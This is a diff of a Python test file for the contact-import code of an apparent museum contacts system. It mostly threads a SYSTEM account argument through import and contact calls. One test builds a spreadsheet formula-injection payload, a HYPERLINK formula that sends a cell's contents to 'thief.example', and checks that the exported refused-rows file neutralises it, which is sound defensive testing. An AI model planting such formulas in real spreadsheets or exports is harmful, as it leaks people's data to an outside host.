@@ -9,6 +9,7 @@ import pytest
 from tests.support.bringing import bring_in, choices, preview, preview_again, write
 from tests.support.museum import NOW, Museum
 from tests.support.people import who
+from uvarovite.core.accounts import SYSTEM
 from uvarovite.core.consent import ConsentEventKind
 from uvarovite.services.consent.by_hand import record_by_hand
 from uvarovite.services.contacts.fields import FieldDraft, make_field
@@ -43,7 +44,7 @@ def topic_of(one: Person, key: str) -> str:
 
 
 def found(museum: Museum, search: str) -> int:
-    return count_contacts(museum.database, wanted=Wanted(search=search), now=NOW)
+    return count_contacts(museum.database, SYSTEM, wanted=Wanted(search=search), now=NOW)
 
 
 def test_looking_tells_what_would_happen_and_writes_nothing(museum: Museum) -> None:
@@ -56,8 +57,8 @@ def test_looking_tells_what_would_happen_and_writes_nothing(museum: Museum) -> N
     assert [(row.row, row.code) for row in view.refusals] == [(5, "ambiguous"), (7, "address_malformed")]
     assert view.refusals[0].cells[1] == "ada@slatepost.example"
     assert rows_of(museum, "contact") == before
-    assert get_import(museum.database, view.id) == view
-    discard_import(museum.database, view.id)
+    assert get_import(museum.database, SYSTEM, view.id) == view
+    discard_import(museum.database, SYSTEM, view.id)
     assert rows_of(museum, "import_file") == 1
     with museum.database.transaction() as tx:
         assert run_sql(tx, "SELECT 1 FROM pg_class WHERE relname LIKE 'import_rows%'") == []
@@ -128,6 +129,7 @@ N-02,omar@slatepost.example,Skarn,
     bring_in(museum, "Contact no.,Town\nM-02,Breccia\n", now=NOW + timedelta(hours=1))
     record_by_hand(
         museum.database,
+        SYSTEM,
         contact_no="N-02",
         topic="museum_news",
         kind=ConsentEventKind.CONFIRMED,
@@ -135,7 +137,7 @@ N-02,omar@slatepost.example,Skarn,
         wording="by telephone",
     )
     later = NOW + timedelta(hours=3)
-    undone = undo_import(museum.database, view.id, user_id=None, now=later)
+    undone = undo_import(museum.database, SYSTEM, view.id, now=later)
     assert (undone.removed, undone.restored, undone.kept) == (1, 1, 2)
     ada = who(museum, "M-01")
     assert (ada.record["town"], ada.tags, topic_of(ada, "museum_news")) == ("Skarn", [], "never")
@@ -154,7 +156,7 @@ N-02,omar@slatepost.example,Skarn,
         0,
     )
     with pytest.raises(Conflict):
-        undo_import(museum.database, view.id, user_id=None, now=later)
+        undo_import(museum.database, SYSTEM, view.id, now=later)
     # Who was taken away comes back by the same file, with the same number.
     assert preview(museum, file).new == 1
 
@@ -172,11 +174,11 @@ def test_columns_carry_tags_and_topics(museum: Museum) -> None:
         write(museum, view)
     view = preview_again(museum, view, tags=["open day"])
     write(museum, view, ground="Ticked on the visitor form")
-    page = contact_page(museum.database, wanted=Wanted(search="kim@"), now=NOW)
+    page = contact_page(museum.database, SYSTEM, wanted=Wanted(search="kim@"), now=NOW)
     assert page.rows[0].tags == ["caver", "open day", "Walker"]
-    lou = contact_page(museum.database, wanted=Wanted(search="lou@"), now=NOW).rows[0]
+    lou = contact_page(museum.database, SYSTEM, wanted=Wanted(search="lou@"), now=NOW).rows[0]
     assert {mark.key: mark.state for mark in lou.topics} == {"field_walks": "subscribed", "museum_news": "subscribed"}
-    told = person(museum.database, lou.id, NOW).ledger[0]
+    told = person(museum.database, SYSTEM, lou.id, NOW).ledger[0]
     assert (told.way, told.evidence["ground"], told.evidence["row"]) == ("import", "Ticked on the visitor form", 3)
 
 
@@ -207,7 +209,7 @@ def test_what_was_chosen_for_columns_is_remembered_for_the_next_file(museum: Mus
 
 def test_the_refused_rows_come_back_as_a_file_that_can_be_mended(museum: Museum) -> None:
     view = write(museum, preview(museum, FILE))
-    name, text = refused_file(museum.database, view.id)
+    name, text = refused_file(museum.database, SYSTEM, view.id)
     assert name == "refused from more.csv"
     lines = text.lstrip("\ufeff").splitlines()
     assert lines[0] == "Contact no.,E-mail address,First name,Last name,Town,refused because"
@@ -221,7 +223,7 @@ def test_the_refused_rows_file_runs_nothing_and_is_read_back_as_it_was(museum: M
     cell = '=HYPERLINK("http://thief.example?"&A2)'
     rows = f'E-mail,Town\nbroken,"{cell.replace(chr(34), chr(34) * 2)}"\n'
     view = write(museum, preview(museum, rows))
-    _, text = refused_file(museum.database, view.id)
+    _, text = refused_file(museum.database, SYSTEM, view.id)
     found = next(csv.reader([text.splitlines()[1]]))
     assert found[1] == f"'{cell}"
     again = preview(museum, text.replace("broken", "kim@slatepost.example"))
@@ -243,7 +245,7 @@ def test_what_later_rows_contradict_is_asked_before_anything_of_it_is_taken(muse
 
 
 def test_times_in_a_file_are_those_of_the_organisation(museum: Museum) -> None:
-    make_field(museum.database, FieldDraft(key="seen", label="Seen", type="date_time"))
+    make_field(museum.database, SYSTEM, FieldDraft(key="seen", label="Seen", type="date_time"))
     file = "E-mail,Seen\nkim@slatepost.example,2026-06-14 14:30\n"
     # Summer time where the museum stands, both the first time that a file is looked at and as it is remembered.
     for _ in range(2):
@@ -309,7 +311,7 @@ def test_columns_can_be_chosen_by_hand(museum: Museum) -> None:
             preview_again(museum, view, columns=[ColumnChoice(use="field", field=key) for key in keys])
     with pytest.raises(BadInput):
         preview_again(museum, view, columns=[ColumnChoice(use="burn"), ColumnChoice(use="leave_out")])
-    discard_import(museum.database, view.id)
+    discard_import(museum.database, SYSTEM, view.id)
     with pytest.raises(NotFound):
         preview_again(museum, view)
 
@@ -340,4 +342,4 @@ def test_files_that_were_left_are_forgotten_after_a_day(museum: Museum) -> None:
     bring_in(museum, "Contact no.\nM-01\n", now=NOW + DRAFT_LASTS + timedelta(minutes=1))
     assert rows_of(museum, "import_file") == before
     with pytest.raises(NotFound):
-        get_import(museum.database, old.id)
+        get_import(museum.database, SYSTEM, old.id)
